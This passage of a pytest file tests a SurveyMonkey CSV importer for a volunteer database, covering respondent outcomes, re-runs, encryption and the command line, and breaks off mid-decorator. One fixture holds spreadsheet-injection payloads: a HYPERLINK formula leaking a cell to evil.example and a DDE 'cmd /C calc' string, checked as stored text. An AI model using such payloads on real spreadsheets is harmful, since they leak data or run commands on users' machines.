"""Importing SurveyMonkey exports: the sample exports in tests/samples/surveymonkey, imported on SQLite and
PostgreSQL, every person, choice, declaration and refusal checked against hand-written expectations;
a second run changes nothing; the command line, its report and exit codes; confirmation e-mails over
real SMTP that the existing confirm flow accepts."""

from __future__ import annotations

import asyncio
import datetime as dt
import re
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from advanced_alchemy.extensions.litestar import SQLAlchemyAsyncConfig
from click.testing import CliRunner, Result
from litestar import Litestar
from litestar.cli._utils import LitestarEnv
from sqlalchemy import func, select, text

from stepchange.app import create_app
from stepchange.core.audit import AuditEntry
from stepchange.core.database import session_scope, table_of
from stepchange.core.mail import send_due
from stepchange.core.settings import Settings
from stepchange.ethics.models import Declaration, declaration_project
from stepchange.import_cli import import_group
from stepchange.interest import import_checks, importing
from stepchange.interest.bulk_insert import BulkInsert
from stepchange.interest.importing import ImportReport, Outcome, SurveyImporter
from stepchange.interest.models import Call, Choice, ChoiceRole, Expression, ExpressionStatus, ImportedResponse
from stepchange.interest.rules import STATEMENT_VERSION
from stepchange.interest.survey_mapping import ExportError, load_mapping, parse_mapping
from stepchange.interest.surveymonkey import ExportReader, codes_named, hours_from, read_export
from stepchange.people.models import Identity, IdentityStep, Volunteer
from stepchange.people.services import TableRows, new_id
from stepchange.projects.models import Project
from tests.conftest import Client
from tests.smtp import SmtpServer, plain_text, with_smtp

SAMPLES = Path(__file__).parent / "samples" / "surveymonkey"
STANDARD = SAMPLES / "standard_questionnaire.csv"
OTHER = SAMPLES / "other_survey.csv"
OTHER_MAPPING = SAMPLES / "other_survey.toml"
SURVEY = "Step-Change expression of interest (standard questionnaire)"
BASE = "https://stepchange.example"
UTC = dt.UTC


def at(text_: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text_).replace(tzinfo=UTC)


# --- what the samples must become, written out by hand ------------------------------------------


@dataclass
class Person:
    name: str
    organisation: str
    sector: str
    hours: int
    choices: list[tuple[str, int, str]]
    submitted_at: dt.datetime
    phone: str = "+447700900000"
    job_title: str = "Security Manager"
    no_conflicts: bool = True
    declarations: list[tuple[str, str, str, list[str]]] | None = None
    credentials: list[str] | None = None
    experience: str = ""
    identity: str = "submitted"
    late: bool = False
    late_reason: str = ""
    statement_version: str = STATEMENT_VERSION
    source: str = "surveymonkey"
    offered: int | None = None
    """The hours offered in this expression (the person's ``hours`` are their latest offer)."""

    def __post_init__(self) -> None:
        if self.offered is None:
            self.offered = self.hours


IMPORTED = {
    "priya.shah@harbourcruises.example": Person(
        name="Priya Shah",
        phone="+447700900123",
        organisation="Harbour Cruises Ltd",
        job_title="Head of Security",
        sector="Transport",
        hours=6,
        choices=[("T1", 1, "lead"), ("CP2", 2, "member"), ("SR5", 3, "member")],
        credentials=["SIA licence", "CSAS"],
        experience='Twenty years in maritime security, including "Project Griffin" briefings.\r\n'
        "Led port-security exercises at Dover, Harwich and Tilbury.",
        submitted_at=at("2018-05-03 08:10:00"),
    ),
    "tom.oneill@guardforce.example": Person(
        name='Thomas "Tommy" O\'Neill, MBE',
        phone="+441614960000",
        organisation="Guardforce UK, Ltd.",
        job_title="Operations Director",
        sector="Security services",
        hours=20,
        choices=[("CP3", 1, "member"), ("T3", 2, "member")],
        no_conflicts=False,
        declarations=[
            (
                "professional",
                "pending",
                'I work for a supplier to T3 and CP1 ("Guardforce"),\nand sit on a CP1 working group.',
                ["CP1", "T3"],
            )
        ],
        credentials=["Other: ASIS CPP"],
        submitted_at=at("2018-05-04 11:30:00"),  # 12:30 PM British Summer Time
    ),
    "dana.fox@fox-events.example": Person(  # respondent 10005, the latest of three answers from this address
        name="Dana Fox",
        phone="+447700900444",
        organisation="Fox Events Group",
        sector="Sport and events",
        hours=6,
        choices=[("TT2", 1, "lead"), ("TT3", 2, "member")],
        submitted_at=at("2018-05-09 14:15:00"),
    ),
    "formula.fan@example.net": Person(  # formula-looking cells are stored as the text they are
        name='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        organisation="+cmd|' /C calc'!A0",
        job_title="@SUM(1+1)",
        sector="Other",
        hours=1,
        choices=[("T4", 1, "member")],
        submitted_at=at("2018-05-11 13:00:00"),
    ),
    "just.in.time@example.com": Person(  # 11:59:59 PM on the closing day, UK time
        name="Justin Time",
        organisation="Punctual plc",
        sector="Technology and telecoms",
        hours=11,
        choices=[("CF1", 1, "lead"), ("CF2", 2, "member")],
        credentials=["CPIW", "CTSSR"],
        submitted_at=at("2018-05-25 22:59:59"),
    ),
    "rita.shares@example.com": Person(
        name="Rita Shares",
        organisation="Shares Capital LLP",
        sector="Finance and insurance",
        hours=6,
        choices=[("SR3", 1, "member")],
        no_conflicts=False,
        declarations=[
            (
                "professional",
                "pending",
                "Shareholder in a firm bidding for t5 and SR2 work; I also drive the M25 daily.",
                ["SR2", "T5"],
            )
        ],
        submitted_at=at("2018-05-12 09:00:00"),
    ),
    "second.chance@example.org": Person(  # its later answer (10027) was refused, so this one stands
        name="Chance Second",
        organisation="Chance Ltd",
        sector="Transport",
        hours=1,
        choices=[("CP4", 1, "member")],
        submitted_at=at("2018-05-05 07:00:00"),
    ),
    "collector.person@example.com": Person(  # no address in the contact block: the collector's is used
        name="Zoë Ní Bhriain",
        phone="+35315550100",
        organisation="Ceól Events",
        sector="Hospitality and leisure",
        hours=1,
        choices=[("T2", 1, "member")],
        experience='Café owner; 10 years\' crowd safety at Féile events.\nSee: "Crowds, Queues & Calm", ch. 3.',
        submitted_at=at("2018-05-14 12:05:00"),
    ),
    "quiet.achiever@example.co.uk": Person(  # hostile cells in columns the mapping does not read
        name="Quinn Achiever",
        organisation="Achievers Ltd",
        sector="Property and facilities",
        hours=11,
        choices=[("SR4", 1, "member")],
        submitted_at=at("2018-05-15 09:00:00"),
    ),
}
MERGED = {
    "existing.volunteer@example.org": Person(  # held before the import: details updated, choices replaced
        name="Sam Existing-Jones",
        phone="+442079460000",
        organisation="New Employer plc",
        sector="Retail",
        hours=11,
        choices=[("SR1", 1, "lead"), ("SR2", 2, "member")],
        identity="email_confirmed",
        submitted_at=at("2018-05-10 15:45:00"),
    ),
}
UNTOUCHED = {
    "later.web@example.org": Person(  # its web submission (24 May) is later than its survey answer (10 May)
        name="Lou Web",
        phone="+447700900999",
        organisation="Web First Ltd",
        sector="Retail",
        hours=4,
        choices=[("TT4", 1, "lead")],
        statement_version=STATEMENT_VERSION,
        source="form",
        submitted_at=at("2018-05-24 12:00:00"),
    ),
}
LATE = {
    "late.larry@example.com": Person(  # 12:00:01 AM on 26 May, UK time: one second after the call closed
        name="Larry Late",
        organisation="Late Ltd",
        sector="Transport",
        hours=6,
        choices=[("T5", 1, "member")],
        late=True,
        late_reason="imported after the closing date",
        submitted_at=at("2018-05-25 23:00:01"),
    ),
    "early.bird@example.com": Person(  # 11:30 PM on 25 March 2018, after the clocks went forward: BST
        name="Early Bird",
        organisation="Dawn Chorus Ltd",
        sector="Technology and telecoms",
        hours=6,
        choices=[("CF3", 1, "member")],
        late=True,
        late_reason="imported from before the call opened",
        submitted_at=at("2018-03-25 22:30:00"),
    ),
    "early.owl@example.com": Person(  # 11:30 PM on 24 March 2018, before the clocks went forward: GMT
        name="Early Owl",
        organisation="Night Watch Ltd",
        sector="Finance and insurance",
        hours=6,
        choices=[("CF4", 1, "member")],
        late=True,
        late_reason="imported from before the call opened",
        submitted_at=at("2018-03-24 23:30:00"),
    ),
}
REFUSED = {
    "10007": "email: Enter an email address in the correct format, like name@example.com",
    "10008": "choices: Choose at least one project",
    "10009": "hours_per_month: not a number of hours, or a band like 6-10 or 20+",
    "10010": "name: Your full name must not contain line breaks or control characters",
    "10011": "organisation: Your organisation must not contain line breaks or control characters",
    "10012": "experience: Your experience must be 5000 characters or fewer",
    "10018": "conflicts[0].description: Enter what the conflict is",
    "10019": "conflicts: Declare any conflicts of interest, or confirm you have nothing to declare",
    "10021": "choices[0].project: There is no project 'CF6'",
    "10022": "phone: Enter a telephone number, like 01632 960 001, 07700 900 982 or +44 808 157 0192",
    "10023": "sector: Choose your sector from the list",
    "10024": "confidentiality_accepted: Accept the in-confidence statement to take part",
    "row 27": "Respondent ID: missing or not a respondent id",
    "10027": "hours_per_month: not a number of hours, or a band like 6-10 or 20+",
    "10030": "choices: the rank given to T1 is not a number",
    "10032": "Respondent ID: appears more than once in the file",
    "10033": "End Date: not a date and time like 05/25/2018 11:59:59 PM",  # 1:30 AM on 25 March 2018 never happened
}
SUPERSEDED = {
    "10004": "a later answer from the same address (10005) replaces it",
    "10006": "a later answer from the same address (10005) replaces it",
    "10029": "a later submission for this call is already recorded for this address",
}
LATE_REASONS = {
    "10014": "submitted at 12:00am on Saturday 26 May 2018, after the call closed (11:59pm on Friday 25 May 2018)",
    "10016": "submitted at 11:30pm on Sunday 25 March 2018, before the call opened (12:00am on Tuesday 1 May 2018)",
    "10017": "submitted at 11:30pm on Saturday 24 March 2018, before the call opened (12:00am on Tuesday 1 May 2018)",
}
IMPORTED_IDS = {"10001", "10002", "10005", "10013", "10015", "10020", "10026", "10028", "10031"}


# --- helpers --------------------------------------------------------------------------------------


async def import_file(
    config: SQLAlchemyAsyncConfig,
    settings: Settings,
    path: Path = STANDARD,
    mapping: Path | None = None,
    workers: int | None = None,
    **options: Any,
) -> ImportReport:
    reader = ExportReader(path, load_mapping(mapping))
    async with session_scope(config) as session:
        return await SurveyImporter(session, settings, workers=workers).run(reader, **options)


async def the_call(config: SQLAlchemyAsyncConfig, name: str = "Step-Change Call to Action 2018") -> Call:
    async with session_scope(config) as session:
        return (await session.scalars(select(Call).where(Call.name == name))).one()


async def projects(config: SQLAlchemyAsyncConfig) -> dict[str, UUID]:
    async with session_scope(config) as session:
        return {p.code: p.id for p in (await session.scalars(select(Project))).all()}


async def hold_people(config: SQLAlchemyAsyncConfig) -> None:
    """Two people the office already holds for the 2018 call before the import."""
    call = await the_call(config)
    ids = await projects(config)
    async with session_scope(config) as session:
        for email, person, status, code in (
            ("existing.volunteer@example.org", "Sam Existing", Identity.EMAIL_CONFIRMED, "T2"),
            ("later.web@example.org", "Lou Web", Identity.SUBMITTED, "TT4"),
        ):
            submitted = at("2018-05-02 09:00:00") if code == "T2" else at("2018-05-24 12:00:00")
            volunteer = Volunteer(
                email=email,
                name=person,
                phone="+447700900999",
                organisation="Web First Ltd",
                job_title="Security Manager",
                sector="Retail",
                hours_per_month=4,
                identity=status,
            )
            session.add(volunteer)
            await session.flush()
            expression = Expression(
                volunteer_id=volunteer.id,
                call_id=call.id,
                status=ExpressionStatus.CONFIRMED
                if status is Identity.EMAIL_CONFIRMED
                else ExpressionStatus.AWAITING_CONFIRMATION,
                hours_per_month=4,
                statement_version=STATEMENT_VERSION,
                statement_accepted_at=submitted,
                submitted_at=submitted,
                no_conflicts=True,
                source="form",
            )
            session.add(expression)
            await session.flush()
            session.add(Choice(expression_id=expression.id, project_id=ids[code], rank=1, role=ChoiceRole.LEAD))


async def everyone(config: SQLAlchemyAsyncConfig, call: Call, *, answering_only: bool = False) -> dict[str, Person]:
    """Every person in the database as the expectations describe them (their expression for ``call``);
    ``answering_only``: only those with an expression for ``call``."""
    async with session_scope(config) as session:
        code_of = {p.id: p.code for p in (await session.scalars(select(Project))).all()}
        out = {}
        for volunteer in (await session.scalars(select(Volunteer))).all():
            expression = await session.scalar(
                select(Expression).where(Expression.volunteer_id == volunteer.id, Expression.call_id == call.id)
            )
            if expression is None and answering_only:
                continue
            assert expression is not None, volunteer.email
            declarations = (
                await session.scalars(select(Declaration).where(Declaration.volunteer_id == volunteer.id))
            ).all()
            out[volunteer.email] = Person(
                name=volunteer.name,
                phone=volunteer.phone,
                organisation=volunteer.organisation,
                job_title=volunteer.job_title,
                sector=volunteer.sector,
                hours=volunteer.hours_per_month,
                identity=volunteer.identity.value,
                choices=[(code_of[c.project_id], c.rank, c.role.value) for c in expression.choices],
                no_conflicts=expression.no_conflicts,
                declarations=[
                    (d.kind.value, d.state.value, d.description, [p.code for p in d.projects]) for d in declarations
                ]
                or None,
                credentials=expression.credentials or None,
                experience=expression.experience,
                late=expression.late,
                late_reason=expression.late_reason,
                statement_version=expression.statement_version,
                source=expression.source,
                submitted_at=expression.submitted_at,
                offered=expression.hours_per_month,
            )
        return out


TABLES: tuple[Any, ...] = (Volunteer, IdentityStep, Expression, Choice, Declaration, ImportedResponse)


async def snapshot(config: SQLAlchemyAsyncConfig) -> dict[str, Any]:
    """Every row's id and ``updated_at`` in the tables an import writes."""
    async with session_scope(config) as session:
        shot: dict[str, Any] = {}
        for model in TABLES:
            rows = await session.execute(select(model.id, model.updated_at).order_by(model.id))
            shot[model.__tablename__] = [tuple(r) for r in rows]
        links = await session.execute(select(declaration_project).order_by(*declaration_project.c))
        shot["declaration_project"] = [tuple(r) for r in links]
        return shot


def outcomes(report: ImportReport) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for row in report.results:
        found.setdefault(row.outcome.value, set()).add(row.label)
    return found


def assert_the_standard_report(report: ImportReport) -> None:
    """The standard sample's report, with the two people of :func:`hold_people` already held."""
    assert report.survey == SURVEY
    assert report.counts() == {
        "imported": 9,
        "merged": 1,
        "updated": 0,
        "superseded": 3,
        "late": 3,
        "refused": 18,
        "skipped": 0,
    }
    assert outcomes(report) == {
        "imported": IMPORTED_IDS,
        "merged": {"10003"},
        "superseded": set(SUPERSEDED),
        "late": set(LATE_REASONS),
        "refused": set(REFUSED),
    }
    assert {r.label: r.reason for r in report.results if r.outcome is Outcome.REFUSED} == REFUSED
    assert {r.label: r.reason for r in report.results if r.outcome is Outcome.SUPERSEDED} == SUPERSEDED
    assert {r.label: r.late for r in report.results if r.late} == LATE_REASONS
    assert [r.label for r in report.results if r.outcome is Outcome.REFUSED].count("10032") == 2


# --- the standard questionnaire -----------------------------------------------------------------


async def test_the_standard_export_is_imported_row_by_row_as_written_down(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    await hold_people(db_config)

    report = await import_file(db_config, settings)

    assert_the_standard_report(report)
    people = await everyone(db_config, await the_call(db_config))
    assert people == {**IMPORTED, **MERGED, **UNTOUCHED}


@pytest.mark.parametrize("workers", [0, 2], ids=["in-process", "worker-processes"])
async def test_checked_a_few_rows_at_a_time_or_by_worker_processes_the_outcome_is_the_same(
    db_config: SQLAlchemyAsyncConfig, settings: Settings, monkeypatch: pytest.MonkeyPatch, workers: int
) -> None:
    monkeypatch.setattr(import_checks, "CHECK_CHUNK", 4)  # the duplicate addresses land in different chunks
    await hold_people(db_config)

    report = await import_file(db_config, settings, workers=workers)

    assert_the_standard_report(report)
    assert await everyone(db_config, await the_call(db_config)) == {**IMPORTED, **MERGED, **UNTOUCHED}


async def test_a_failure_part_way_leaves_nothing_behind(
    db_config: SQLAlchemyAsyncConfig, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(import_checks, "CHECK_CHUNK", 4)
    applied = importing.SurveyImporter._apply
    calls = 0

    async def fail_on_the_third_chunk(self: Any, *args: Any) -> None:
        nonlocal calls
        calls += 1
        if calls == 3:
            raise RuntimeError("the disk is full")
        await applied(self, *args)

    monkeypatch.setattr(importing.SurveyImporter, "_apply", fail_on_the_third_chunk)
    before = await snapshot(db_config)

    with pytest.raises(RuntimeError, match="the disk is full"):
        await import_file(db_config, settings)

    assert await snapshot(db_config) == before


async def test_imported_people_are_at_submitted_with_the_step_recorded(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    await hold_people(db_config)
    await import_file(db_config, settings)

    async with session_scope(db_config) as session:
        steps = (
            await session.execute(
                select(Volunteer.email, IdentityStep.step, IdentityStep.by, IdentityStep.how).join(
                    IdentityStep, IdentityStep.volunteer_id == Volunteer.id
                )
            )
        ).all()
        tracked = (await session.scalars(select(ImportedResponse))).all()
        statuses = dict(
            (
                await session.execute(
                    select(Volunteer.email, Expression.status).join(Expression, Expression.volunteer_id == Volunteer.id)
                )
            ).all()
        )
    assert sorted(s.email for s in steps) == sorted(IMPORTED)
    assert {(s.step, s.by, s.how) for s in steps} == {(Identity.SUBMITTED, "the person", "imported from SurveyMonkey")}
    assert {t.respondent_id for t in tracked} == IMPORTED_IDS | {"10003"}
    assert {t.source for t in tracked} == {SURVEY}
    assert all(re.fullmatch(r"[0-9a-f]{64}", t.content_hash) for t in tracked)
    assert statuses["existing.volunteer@example.org"] is ExpressionStatus.CONFIRMED  # an import does not undo it
    assert statuses["priya.shah@harbourcruises.example"] is ExpressionStatus.AWAITING_CONFIRMATION


async def test_phone_numbers_and_declarations_are_encrypted_at_rest(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    await import_file(db_config, settings)

    async with session_scope(db_config) as session:
        phones = (await session.execute(text("SELECT phone FROM volunteer"))).scalars().all()
        declared = (await session.execute(text("SELECT description, organisation FROM declaration"))).all()
    assert phones
    assert not any("770" in p or p.startswith("+") for p in phones)
    assert all(p.startswith("gAAAA") for p in phones)  # Fernet tokens
    assert len(declared) == 2
    assert not any("supplier" in d or "Shareholder" in d for d, _ in declared)


@pytest.mark.parametrize("workers", [0, 2], ids=["in-process", "worker-processes"])
async def test_experience_and_credentials_are_sealed_by_the_checkers_and_read_back_as_answered(
    db_config: SQLAlchemyAsyncConfig, settings: Settings, monkeypatch: pytest.MonkeyPatch, workers: int
) -> None:
    monkeypatch.setattr(import_checks, "CHECK_CHUNK", 4)
    prepared: dict[str, bool] = {}
    processor = BulkInsert._processor

    def spy(self: BulkInsert, column: Any, sealed: bool) -> Any:
        if column.table.name == "expression":
            prepared[column.name] = sealed
        return processor(self, column, sealed)

    monkeypatch.setattr(BulkInsert, "_processor", spy)
    await import_file(db_config, settings, workers=workers)
    assert prepared["experience"] and prepared["credentials"], "written as the checkers sealed them: not again here"

    async with session_scope(db_config) as session:
        stored = (await session.execute(text("SELECT experience, CAST(credentials AS TEXT) FROM expression"))).all()
        opened = {e.experience: e.credentials for e in (await session.scalars(select(Expression))).all()}
    assert stored and all("gAAAA" in experience and "gAAAA" in credentials for experience, credentials in stored)
    assert not any("maritime" in experience or "SIA" in credentials for experience, credentials in stored)
    assert opened[IMPORTED["priya.shah@harbourcruises.example"].experience] == ["SIA licence", "CSAS"]


async def test_a_second_run_of_the_same_file_changes_nothing(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    await hold_people(db_config)
    await import_file(db_config, settings)
    before = await snapshot(db_config)

    again = await import_file(db_config, settings)

    assert await snapshot(db_config) == before
    assert again.counts() == {
        "imported": 0,
        "merged": 0,
        "updated": 0,
        "superseded": 3,
        "late": 3,
        "refused": 18,
        "skipped": 10,
    }
    assert {r.label for r in again.results if r.outcome is Outcome.SKIPPED} == IMPORTED_IDS | {"10003"}
    assert not again.changed


async def test_late_rows_are_imported_marked_late_only_when_accepted(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    await hold_people(db_config)
    await import_file(db_config, settings)

    report = await import_file(db_config, settings, accept_late=True)

    assert report.counts()["imported"] == 3
    assert report.counts()["skipped"] == 10
    assert {r.label for r in report.results if r.outcome is Outcome.IMPORTED} == set(LATE_REASONS)
    assert {r.label: r.late for r in report.results if r.late} == LATE_REASONS
    people = await everyone(db_config, await the_call(db_config))
    assert people == {**IMPORTED, **MERGED, **UNTOUCHED, **LATE}
    assert "  late:       0 outside the call's window, not imported; 3 imported marked late" in report.lines()


async def test_every_row_is_reported_by_respondent_id_and_an_audit_entry_keeps_the_counts(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    report = await import_file(db_config, settings)

    lines = report.lines()
    assert lines[0] == f"SurveyMonkey import of {SURVEY!r} into Step-Change Call to Action 2018: 34 rows"
    assert "  refused:    18" in lines
    assert "Refused rows (respondent id: reason):" in lines
    assert "  10021: choices[0].project: There is no project 'CF6'" in lines
    assert "  row 27: Respondent ID: missing or not a respondent id" in lines
    assert f"  10014: {LATE_REASONS['10014']}" in lines
    assert not any("\x00" in line or "\x07" in line or "\x1b" in line for line in lines)
    async with session_scope(db_config) as session:
        [entry] = (await session.scalars(select(AuditEntry).where(AuditEntry.action == "interest.imported"))).all()
    call = await the_call(db_config)
    assert (entry.actor_label, entry.subject_type, entry.subject_id) == ("system", "call", str(call.id))
    assert entry.changes == {
        "rows": 34,
        "imported": 11,
        "merged": 0,
        "updated": 0,
        "superseded": 2,
        "late": 3,
        "refused": 18,
        "skipped": 0,
        "confirmations": 0,
    }
    recorded = f"{entry.summary} {entry.changes}"
    assert "@" not in recorded
    assert "Priya" not in recorded


async def test_an_answer_edited_in_the_survey_since_is_applied_again(
    db_config: SQLAlchemyAsyncConfig, settings: Settings, tmp_path: Path
) -> None:
    await import_file(db_config, settings)
    edited = tmp_path / "edited.csv"
    content = STANDARD.read_bytes()
    content = content.replace(b"05/04/2018 12:30:00 PM", b"05/06/2018 12:30:00 PM")  # Tom edits his answer…
    content = content.replace(b"I work for a supplier to T3 and CP1", b"I work for a supplier to T4 and CP1")
    edited.write_bytes(content)

    report = await import_file(db_config, settings, edited)

    assert [r.label for r in report.results if r.outcome is Outcome.UPDATED] == ["10002"]
    assert (report.counts()["updated"], report.counts()["skipped"]) == (1, 10)
    tom = (await everyone(db_config, await the_call(db_config)))["tom.oneill@guardforce.example"]
    assert tom.submitted_at == at("2018-05-06 11:30:00")
    assert tom.declarations == [  # the pending declaration from the first import is replaced, not repeated
        (
            "professional",
            "pending",
            'I work for a supplier to T4 and CP1 ("Guardforce"),\nand sit on a CP1 working group.',
            ["CP1", "T4"],
        )
    ]


async def test_columns_the_import_does_not_set_get_their_python_defaults(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    """A column added to a table later, with a Python default, is filled by the bulk insert as SQLAlchemy would."""
    await import_file(db_config, settings)
    async with session_scope(db_config) as session:
        volunteer_id = await session.scalar(select(Volunteer.id).limit(1))
        bulk = BulkInsert(await session.connection())
        batch = TableRows(table_of(IdentityStep), ("id", "volunteer_id"), {"step": Identity.VALIDATED, "by": "a test"})
        batch.rows.append((new_id(), volunteer_id))
        await bulk.insert(batch)
        await bulk.settle()
        step = await session.scalar(select(IdentityStep).where(IdentityStep.by == "a test"))
    assert step is not None
    assert (step.how, step.by_id, step.step) == ("", None, Identity.VALIDATED)  # "how" defaults to ""
    assert step.created_at.tzinfo is not None
    assert abs(step.created_at - step.updated_at) < dt.timedelta(seconds=1)


# --- a different survey, through its own mapping --------------------------------------------------


async def open_autumn_call(config: SQLAlchemyAsyncConfig) -> Call:
    """1 October to the end of 4 November 2019, UK time; offering five projects."""
    async with session_scope(config) as session:
        offered = (
            await session.scalars(select(Project).where(Project.code.in_(["T1", "T2", "CP1", "TT5", "SR2"])))
        ).all()
        call = Call(
            name="Autumn call 2019",
            opens_at=at("2019-09-30 23:00:00"),
            closes_at=at("2019-11-05 00:00:00"),
            projects=list(offered),
        )
        session.add(call)
    return call


async def test_another_survey_imports_through_its_mapping_into_the_named_call(
    db_config: SQLAlchemyAsyncConfig, settings: Settings
) -> None:
    await import_file(db_config, settings)  # Priya first answered the 2018 call through the standard form
    autumn = await open_autumn_call(db_config)

    report = await import_file(db_config, settings, OTHER, OTHER_MAPPING, call_id=autumn.id)

    assert report.survey == "Protect & Prepare volunteer sign-up (partner survey)"
    assert {r.label: (r.outcome.value, r.reason or r.late) for r in report.results} == {
        "7700001": ("imported", ""),
        "7700002": ("imported", ""),
        "7700003": (
            "late",
            "submitted at 12:10am on Tuesday 5 November 2019, "
            "after the call closed (11:59pm on Monday 4 November 2019)",
        ),
        "7700004": ("imported", ""),
        "7700005": ("merged", ""),
        "7700006": ("refused", "hours_per_month: not a number of hours, or a band like 6-10 or 20+"),
        "7700007": ("refused", "sector: Choose your sector from the list"),
    }
    partner = {"statement_version": "partner-2019", "phone": "+447700900777", "job_title": "Security Lead"}
    assert await everyone(db_config, autumn, answering_only=True) == {
        "morgan.lee@stadium.example": Person(
            name="Morgan Lee",
            organisation="Stadium Group",
            sector="Sport and events",
            hours=12,
            choices=[("CP1", 1, "lead"), ("SR2", 2, "member")],
            submitted_at=at("2019-11-01 00:00:00"),  # 8:00 PM on 31 October in New York (EDT)
            **partner,  # type: ignore[arg-type]
        ),
        "alex.kim@consult.example": Person(
            name="Alex Kim",
            organisation="Kim Consulting",
            sector="Security services",
            hours=1,
            choices=[("T2", 1, "member")],
            no_conflicts=False,
            declarations=[("financial", "pending", "Consultant to two suppliers bidding for T2 work.", ["T2"])],
            submitted_at=at("2019-11-03 05:30:00"),  # 1:30 AM happened twice in New York: the first (EDT)
            **partner,  # type: ignore[arg-type]
        ),
        "tina.time@example.com": Person(
            name="Tina Time",
            organisation="Timely Events",
            sector="Sport and events",
            hours=4,
            choices=[("TT5", 1, "lead"), ("T1", 2, "member")],
            submitted_at=at("2019-11-04 23:30:00"),  # 6:30 PM EST: 11:30 PM on the closing day in the UK
            **partner,  # type: ignore[arg-type]
        ),
        "priya.shah@harbourcruises.example": Person(
            name="Priya Shah",
            phone="+447700900123",
            organisation="Harbour Cruises Group",
            job_title="Group Security Director",
            sector="Transport",
            hours=10,
            choices=[("T1", 1, "member")],
            statement_version="partner-2019",
            submitted_at=at("2019-10-15 13:00:00"),
        ),
    }
    # Priya's 2018 expression of interest is kept as it was
    priya_2018 = (await everyone(db_config, await the_call(db_config), answering_only=True))[
        "priya.shah@harbourcruises.example"
    ]
    assert priya_2018.choices == IMPORTED["priya.shah@harbourcruises.example"].choices
    assert (priya_2018.offered, priya_2018.hours) == (6, 10)
    assert priya_2018.organisation == "Harbour Cruises Group"  # one person, one record: details are the latest


# --- unusable files and mappings -----------------------------------------------------------------


def test_an_hours_band_counts_as_its_lower_bound() -> None:
    assert [hours_from(a) for a in ("1-5", "6-10", "6 – 10", "11 to 20", "20+", "8", "8 hours", "12 hrs")] == [
        1,
        6,
        6,
        11,
        20,
        8,
        8,
        12,
    ]
    assert [hours_from(a) for a in ("lots", "ten", "-5", "5.5", "")] == [None] * 5
    assert hours_from("Less than 5", {"less than 5": 1}) == 1


def test_codes_are_found_in_free_text_whole_words_only() -> None:
    assert codes_named("I work for a supplier to T3 and CP1 (and cp1 again); also ISO27001, M25, A1.") == [
        "T3",
        "CP1",
        "M25",
        "A1",
    ]
    assert codes_named("XT35X and T3a name nothing") == []


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ({"fields": {}}, "[survey] needs a name"),
        ({"survey": {"name": "x", "statement_version": "1"}, "fields": {"name": "Name"}}, "[fields] must name email"),
        ({"survey": {"name": "x", "timezone": "Mars/Olympus"}, "fields": {}}, "is not a time zone"),
        ({"survey": {"name": "x"}, "fields": {}}, "statement_version must name the in-confidence statement"),
        ({"survey": {"name": "x", "statement_version": "1", "conflict_kind": "awkward"}}, "conflict_kind must be one"),
        ({"survey": {"name": "x"}, "fields": {"shoe_size": "Shoes"}}, "unknown fields shoe_size"),
        ({"survey": {"name": "x", "statement_version": "1"}, "fields": {"name": {"questoin": "Name"}}}, "unknown keys"),
    ],
)
def test_a_mapping_with_a_mistake_is_refused_naming_it(document: dict[str, Any], message: str) -> None:
    with pytest.raises(ExportError, match=re.escape(message)):
        parse_mapping(document)


def test_the_default_mapping_reads_the_standard_questionnaire() -> None:
    mapping = load_mapping()
    export = read_export(STANDARD, mapping)
    assert mapping.timezone.key == "Europe/London"
    assert len(export.responses) == 34
    assert export.ranking_codes[20:22] == ["CF6", "SR1"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "cannot be read as CSV"),
        (b"\xef\xbb\xbfRespondent ID\r\n", "it needs two header rows"),
        (b"\xff\xfeR\x00e\x00", "not UTF-8"),
        (
            b"Respondent ID,Your contact details\r\n,Name\r\n1,Ann\r\n",
            "The question 'Your contact details' has no answer 'Email Address' (it has 'Name')",
        ),
        (b"Respondent ID,Email Address\r\n,\r\n1,a@b.example\r\n", "The file has no question 'Your contact details'"),
    ],
)
def test_an_unusable_file_is_refused_saying_why(content: bytes, message: str) -> None:
    with pytest.raises(ExportError, match=re.escape(message)):
        read_export(content, load_mapping())


def test_a_ranking_option_must_start_with_a_project_code(tmp_path: Path) -> None:
    content = STANDARD.read_text(encoding="utf-8-sig").replace("SR4 - Information", "Information")
    with pytest.raises(ExportError, match="does not start with a project code"):
        read_export(content.encode(), load_mapping())


# --- the command line -----------------------------------------------------------------------------


def invoke(app: Litestar, *args: str) -> Result:
    env = LitestarEnv(app_path="stepchange.app:create_app", app=app, cwd=Path.cwd())
    return CliRunner().invoke(import_group, ["surveymonkey", *args], obj=env)


def test_the_command_imports_and_prints_the_report(app: Litestar, db_config: SQLAlchemyAsyncConfig) -> None:
    result = invoke(app, str(STANDARD))

    assert result.exit_code == 0, result.output
    assert f"SurveyMonkey import of {SURVEY!r} into Step-Change Call to Action 2018: 34 rows" in result.output
    assert "  imported:   11 new people" in result.output
    assert "  10007: email: Enter an email address in the correct format, like name@example.com" in result.output
    again = invoke(app, str(STANDARD))
    assert again.exit_code == 0, again.output
    assert "  skipped:    11 already imported, unchanged" in again.output


def test_the_command_takes_a_mapping_a_call_and_accept_late(app: Litestar, db_config: SQLAlchemyAsyncConfig) -> None:
    autumn = asyncio.run(open_autumn_call(db_config))
    asyncio.run(db_config.get_engine().dispose())

    result = invoke(app, str(OTHER), "--mapping", str(OTHER_MAPPING), "--call", str(autumn.id), "--accept-late")

    assert result.exit_code == 0, result.output
    assert "  imported:   5 new people" in result.output
    assert "; 1 imported marked late" in result.output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--mapping", str(STANDARD)], "The mapping file is not valid TOML"),
        (["--call", "00000000-0000-0000-0000-000000000001"], "There is no call with id"),
        (["--mapping", str(OTHER_MAPPING)], "The file has no question 'Contact information'"),
    ],
)
